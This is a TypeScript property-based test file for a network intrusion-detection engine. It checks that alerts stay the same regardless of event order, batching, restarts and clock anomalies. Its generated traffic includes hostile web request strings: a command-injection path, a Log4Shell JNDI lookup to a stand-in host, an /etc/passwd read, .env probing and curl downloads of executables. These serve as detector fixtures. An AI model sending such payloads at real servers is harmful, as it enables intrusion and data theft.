import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { indexC2 } from '#adapters/feeds/c2.ts'
import { indexPhishing } from '#adapters/feeds/phishing.ts'
import { isSnapshot } from '#engine/detect/detector.ts'
import { portScan } from '#engine/detect/rules/port-scan.ts'
import type { SensorEvent } from '#engine/event.ts'
import { alertsOf, alertsOfPieces, detector, finalAlerts, stored } from '#test/support/detect.ts'
import {
  dns,
  each,
  file,
  flow,
  HOUR,
  http,
  KIOSK,
  login,
  MINUTE,
  MORNING,
  rpc,
  SECOND,
  SERVER,
  share,
  tls,
} from '#test/support/events.ts'
import { hex, madeUp } from '#test/support/names.ts'
import { proofRuns } from '#test/support/proof.ts'

const rule = 'drop tcp $HOME_NET any -> [198.51.100.7] 21 (msg:"orders"; sid:1;)\n'
const intelligence = {
  c2: indexC2([{ name: 'list.rules', text: rule }]),
  phishing: indexPhishing([{ name: 'list.txt', text: 'login-bank.example\ncard-bank.example\n' }]),
}

/**
 * Traffic that lies near every threshold: few hosts, few doors, few accounts, within forty minutes around the turn of a
 * day. Refused web pages are left to their own test, since an acceptance that comes late takes refusals back.
 */
const TURN = Date.UTC(2026, 10, 24, 19)
const when = fc.integer({ min: -20 * 60, max: 20 * 60 }).map((seconds) => TURN + seconds * SECOND)
const sources = [KIOSK, '192.168.1.24', '203.0.113.5', '203.0.113.6']
const targets = [SERVER, '192.168.1.11', '198.51.100.7', '198.51.100.8']
/** A connection has one number and two ends. */
const ends = fc
  .tuple(when, fc.nat(sources.length - 1), fc.nat(targets.length - 1), fc.nat(100_000))
  .map(([at, source, target, number]) => ({
    at,
    source: sources[source] ?? KIOSK,
    target: targets[target] ?? SERVER,
    flow: (number * sources.length + source) * targets.length + target,
  }))
/** Connections within the firm, each between two. */
const pair = (connection: number) => ({
  flow: `w${connection}`,
  source: connection % 2 === 0 ? KIOSK : SERVER,
  target: connection % 2 === 0 ? SERVER : KIOSK,
})
const event: fc.Arbitrary<SensorEvent> = fc.oneof(
  {
    weight: 1,
    arbitrary: fc
      .tuple(ends, fc.nat(20))
      // At one door within moments, or no few of them would be a flood.
      .map(([of, second]) =>
        flow({
          ...of,
          at: TURN + second * SECOND,
          target: SERVER,
          isHalfOpen: true,
          packetsToTarget: 900,
          targetPort: 80,
        }),
      ),
  },
  {
    weight: 14,
    arbitrary: fc
      .tuple(ends, fc.nat(60), fc.constantFrom('silent', 'refused', 'answered'))
      .map(([of, targetPort, outcome]) => flow({ ...of, targetPort, outcome: outcome as 'silent' })),
  },
  {
    weight: 16,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('', 'kenta', 'yuki'), fc.nat(5))
      .map(([of, account, luck]) => login({ ...of, account, outcome: luck === 0 ? 'succeeded' : 'failed' })),
  },
  {
    weight: 5,
    arbitrary: fc
      .tuple(ends, fc.nat(12), fc.nat(8), fc.constantFrom('failed', 'unknown-account', 'untold'))
      .map(([of, name, connection, outcome]) =>
        login({
          ...of,
          source: KIOSK,
          target: targets[connection % targets.length] ?? SERVER,
          service: 'kerberos',
          flow: `c${connection}`,
          account: outcome === 'untold' || name < 9 ? `name-${name}` : '',
          outcome: outcome as 'failed',
        }),
      ),
  },
  {
    weight: 2,
    arbitrary: ends.map((of) =>
      flow({
        ...of,
        service: 'ssh',
        isOpaqueLogin: true,
        outcome: 'answered',
        bytesToSource: 3_334,
        bytesToTarget: 4_045,
      }),
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('login-bank.example', 'www.example.jp'))
      .map(([of, name]) => dns({ ...of, name })),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(ends, fc.nat(20), fc.constantFrom('', 'NOERROR', 'NXDOMAIN'))
      .map(([of, seed, resultCode]) => dns({ ...of, source: '192.168.1.24', name: `${madeUp(seed)}.net`, resultCode })),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(ends, fc.nat(20), fc.constantFrom(18, 60), fc.constantFrom('TXT', 'NULL'))
      .map(([of, seed, digits, recordType]) =>
        dns({ ...of, source: KIOSK, name: `${hex(seed, digits)}.t.example.net`, recordType }),
      ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('card-bank.example', 'www.example.jp'))
      .map(([of, serverName]) => tls({ ...of, serverName })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('GET', 'POST'))
      .map(([of, method]) => http({ ...of, host: 'card-bank.example', method })),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        ends,
        fc.constantFrom('/x.php?cmd=id', '/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D', '/?f=/etc/passwd'),
        fc.nat(2),
      )
      .map(([of, path, luck]) => http({ ...of, path, status: luck === 0 ? 404 : 200 })),
  },
  {
    weight: 3,
    arbitrary: fc
      .tuple(ends, fc.boolean())
      .map(([{ source, target, ...of }, isBack]) =>
        flow({ ...of, source: target, target: isBack ? source : '198.51.100.7', outcome: 'answered' }),
      ),
  },
  {
    weight: 6,
    arbitrary: fc
      .tuple(ends, fc.integer({ min: -120, max: 120 }), fc.nat(20), fc.constantFrom('/.env', '/wp-login.php', '/old'))
      // Of few minutes, or no few of them would be a search.
      .map(([of, second, number, path]) =>
        http({
          ...of,
          at: TURN + second * SECOND,
          status: [200, 403, 404, 0][number % 4] ?? 0,
          host: `shop${number}.example`,
          path: `/${'xyz'[number % 3]}${path}`,
          userAgent: number < 15 ? 'gobuster/3.5' : 'Mozilla/5.0',
          contentType: number === 0 ? 'text/plain' : 'text/html',
        }),
      ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('203.0.113.9', 'tools.example'), fc.constantFrom('/a.exe', '/b.ps1'), fc.boolean())
      .map(([of, host, path, isScript]) => http({ ...of, host, path, userAgent: isScript ? 'curl/8' : 'Mozilla/5.0' })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('a', 'b'), fc.constantFrom('/logo.png', '/load'))
      .map(([{ source, target, ...of }, digit, path]) =>
        file({
          ...of,
          source: target,
          target: source,
          host: 'tools.example',
          path,
          magic: 'pe32 executable',
          md5: digit.repeat(32),
        }),
      ),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(ends, fc.nat(3), fc.boolean(), fc.constantFrom('kenta', 'yuki', 'anonymous'))
      .map(([of, connection, isName, account]) =>
        login({
          ...of,
          source: KIOSK,
          target: SERVER,
          flow: `p${connection}`,
          outcome: 'untold',
          account: isName ? account : '',
          isCleartext: !isName,
        }),
      ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('', 'kenta', 'yuki'), fc.constantFrom(200, 401))
      .map(([of, account, status]) => http({ ...of, account, status })),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(ends, fc.nat(6), fc.constantFrom('connected', 'created', 'opened'), fc.constantFrom('a.exe', 'b.xlsx'))
      .map(([of, connection, action, path]) =>
        share({ ...of, ...pair(connection), action: action as 'created', share: 'C$', path }),
      ),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(ends, fc.nat(6), fc.boolean(), fc.constantFrom('a.exe', 'b.xlsx'))
      .map(([of, connection, isBack, name]) => {
        const { source, target, flow } = pair(connection)
        const way = isBack
          ? { source: target, target: source }
          : { source, target, sourcePort: 50_000, targetPort: 445 }
        return file({ ...of, ...way, flow, service: 'smb', name, magic: '' })
      }),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(ends, fc.nat(6), fc.constantFrom('svcctl', 'drsuapi', ''), fc.constantFrom('', '3', '6', '12', '16'))
      .map(([of, connection, endpoint, operation]) => rpc({ ...of, ...pair(connection), endpoint, operation })),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('administrator', 'kenta'), fc.constantFrom('kerberos', 'ssh'))
      .map(([of, account, service]) => login({ ...of, service, account, outcome: 'succeeded' })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(ends, fc.constantFrom('router7.teamviewer.com', 'pool.supportxmr.com', 'www.example.jp'))
      .map(([of, name]) => dns({ ...of, name })),
  },
)
const trace = fc.array(event, { minLength: 80, maxLength: 400, size: 'max' })
const cuts = fc.array(fc.nat(249), { maxLength: 6 })
const shuffled = trace.chain((events) =>
  fc.tuple(fc.constant(events), fc.shuffledSubarray(events, { minLength: events.length })),
)

function cutAt(events: readonly SensorEvent[], places: readonly number[]): SensorEvent[][] {
  const edges = [0, ...places.toSorted((left, right) => left - right), events.length]
  return edges.slice(1).map((edge, place) => events.slice(edges[place], edge))
}

describe('what is finally said does not depend on how the events came', () => {
  const runs = { numRuns: proofRuns(40, 5_000), endOnFailure: true }

  test('in which order', () => {
    fc.assert(
      fc.property(shuffled, cuts, ([events, other], places) => {
        expect(alertsOfPieces(cutAt(other, places), { intelligence })).toEqual(alertsOf(events, { intelligence }))
      }),
      runs,
    )
  })

  test('in how many batches', () => {
    fc.assert(
      fc.property(trace, cuts, (events, places) => {
        expect(alertsOfPieces(cutAt(events, places), { intelligence })).toEqual(alertsOf(events, { intelligence }))
      }),
      runs,
    )
  })

  test('with how many restarts from a stored snapshot, byte by byte', () => {
    fc.assert(
      fc.property(trace, cuts, (events, places) => {
        const restarted = alertsOfPieces(cutAt(events, places), { intelligence, restarts: true })
        expect(JSON.stringify(restarted)).toBe(JSON.stringify(alertsOfPieces(cutAt(events, places), { intelligence })))
      }),
      runs,
    )
  })

  test('how often they were sent again, cut into other batches', () => {
    fc.assert(
      fc.property(trace, cuts, fc.nat(249), (events, places, from) => {
        const resent = [...events, ...events.slice(from), ...events.slice(0, from)]
        expect(alertsOfPieces(cutAt(resent, places), { intelligence })).toEqual(alertsOf(events, { intelligence }))
      }),
      runs,
    )
  })

  test('alerts only grow on the way', () => {
    fc.assert(
      fc.property(trace, cuts, (events, places) => {
        const running = detector({ intelligence })
        const counts = new Map<string, number>()
        for (const piece of cutAt(events, places))
          for (const { id, count } of running.detect(piece)) {
            expect(count).toBeGreaterThanOrEqual(counts.get(id) ?? 0)
            counts.set(id, count)
          }
      }),
      runs,
    )
  })

  test('the traces do reach the thresholds', () => {
    const kinds = fc
      .sample(trace, { numRuns: 200, seed: 7 })
      .flatMap((events) => alertsOf(events, { intelligence }).map(({ kind }) => kind))
    expect([...new Set(kinds)].sort()).toEqual([
      'abnormal-process',
      'brute-force-failure',
      'brute-force-success',
      'cleartext-credentials',
      'dga-c2',
      'dns-tunneling',
      'internal-file-transfer',
      'known-c2',
      'malware-download',
      'password-spraying',
      'phishing-site',
      'port-scan',
      'privileged-account',
      'syn-flood',
      'unwanted-software',
      'url-scan',
    ])
  })
})

test('a replay raises the very same alerts', () => {
  const events = each(40, SECOND, (at, port) => flow({ at, targetPort: port + 1 }))
  expect(JSON.stringify(alertsOf(events))).toBe(JSON.stringify(alertsOf(structuredClone(events))))
})

test('another firm’s same traffic is another detector’s, with nothing shared', () => {
  const [one, other] = [detector(), detector()]
  expect(one.detect(each(9, SECOND, (at, port) => flow({ at, targetPort: port + 1 })))).toEqual([])
  expect(other.detect(each(1, SECOND, (at) => flow({ at, targetPort: 99 })))).toEqual([])
})

describe('clocks that lie', () => {
  const scan = (from: number) =>
    Array.from({ length: 12 }, (_, port) => flow({ at: from + port * SECOND, targetPort: port + 20 }))

  test.each([
    ['1970', 0],
    ['the last moment that is one', 253_402_300_000_000],
  ])('a scan in %s is found', (_name, from) => {
    expect(alertsOf(scan(from))).toHaveLength(1)
  })

  test('what comes hours late still counts, and is counted as late', () => {
    const running = detector()
    const alerts = [running.detect([flow({ at: MORNING + 3 * HOUR })]), running.detect(scan(MORNING))]
    expect(finalAlerts(alerts)).toHaveLength(1)
    expect(running.counts()).toMatchObject({ events: 13, late: 12 })
  })

  test('one moment far ahead costs the past, not the program', () => {
    const running = detector({ rules: [portScan] })
    running.detect(scan(MORNING))
    running.detect([flow({ at: MORNING + 400 * 24 * HOUR })])
    expect(running.counts().subjects).toBe(1)
    expect(finalAlerts([running.detect(scan(MORNING + MINUTE))])).toHaveLength(1)
  })

  test('time that passes in silence lets the past go', () => {
    const running = detector({ rules: [portScan] })
    running.detect(scan(MORNING))
    running.advance(MORNING + 12 * HOUR)
    expect(running.counts().subjects).toBe(1)
    running.advance(MORNING + 48 * HOUR)
    expect(running.counts().subjects).toBe(0)
  })
})

describe('a snapshot', () => {
  test('of another version, or anything else, is not continued from', () => {
    const good = stored(detector())
    expect(isSnapshot(good)).toBe(true)
    for (const other of [{ ...good, version: 1 }, { ...good, version: 99 }, {}, null, 'text', 7, undefined])
      expect(isSnapshot(other)).toBe(false)
  })

  test('of a quiet detector is small', () => {
    expect(JSON.stringify(stored(detector())).length).toBeLessThan(2_500)
  })
})
